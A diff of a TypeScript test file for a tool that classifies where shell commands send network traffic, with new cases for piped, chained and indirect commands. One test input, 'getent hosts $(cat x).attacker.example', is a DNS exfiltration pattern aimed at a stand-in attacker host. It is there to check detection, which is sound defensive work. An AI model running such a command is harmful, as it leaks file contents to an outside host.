@@ -5,9 +5,11 @@ import { classify } from './index.ts';
 
 const goes = (platform: Platform, command: string) => {
   const { destinations = [] } = classify({ platform, command });
-  for (const { text, span } of destinations) assert.equal(command.slice(span.start, span.end), text, command);
+  for (const { text, span } of destinations) assert.ok(command.slice(span.start, span.end).includes(text), command);
   return destinations.map(({ text, kind }) => `${kind} ${text}`);
 };
+
+const goesAnywhere = (command: string) => classify({ platform: 'linux', command }).destinations ?? [];
 
 test('a probe names where it goes, an address or a name, with its place', () => {
   for (const [platform, command, expected] of [
@@ -24,8 +26,35 @@ test('a probe names where it goes, an address or a name, with its place', () => 
     ['linux', 'ping -c 3 192.0.2.1', ['address 192.0.2.1']],
     ['linux', 'dig @192.0.2.53 www.example.com', ['address 192.0.2.53', 'name www.example.com']],
     ['linux', 'traceroute -n 2001:db8::5', ['address 2001:db8::5']],
+    ['linux', 'ping -c 1 192.0.2.1 | host www.example.com', ['address 192.0.2.1', 'name www.example.com']],
+    ['linux', 'ls; sudo ping -c 1 192.0.2.1', ['address 192.0.2.1']],
+    ['linux', 'fping 192.0.2.1 3405803785', ['address 192.0.2.1', 'name 3405803785']],
+    ['linux', 'svn list http://user@192.0.2.1:8080/x', ['address 192.0.2.1']],
+    ['linux', 'dig -x 192.0.2.1 +short ptr', ['address 192.0.2.1']],
+    ['linux', 'dig 192.0.2.1 table name.example', ['address 192.0.2.1', 'name table', 'name name.example']],
+    ['linux', 'scp x admin@192.0.2.1:/tmp', ['address 192.0.2.1']],
+    ['vyos', 'ping 192.0.2.1 ; ping www.example.com', ['address 192.0.2.1', 'name www.example.com']],
+    ['juniper_junos', 'ping 192.0.2.1 host 192.0.2.2', ['address 192.0.2.1', 'address 192.0.2.2']],
   ] as const)
     assert.deepEqual(goes(platform, command), expected, command);
+});
+
+test('a part of a shell that may go anywhere says a place that nobody knows', () => {
+  for (const command of [
+    'getent hosts $(cat x).attacker.example',
+    'curl -K x',
+    'ping 192.0.2.1; getent networks',
+    'cat x | xargs host',
+    "sh -c 'host x.example'",
+    'svn log',
+    'kubectl get -f https://x.example/y',
+  ])
+    assert.ok(
+      goesAnywhere(command).some(({ kind }) => kind === 'name'),
+      command,
+    );
+  for (const command of ['echo https://x.example', 'grep http://x y', 'cat file:///etc/hosts', 'ls'])
+    assert.deepEqual(goesAnywhere(command), [], command);
 });
 
 test('what is no probe and no copy goes nowhere', () => {
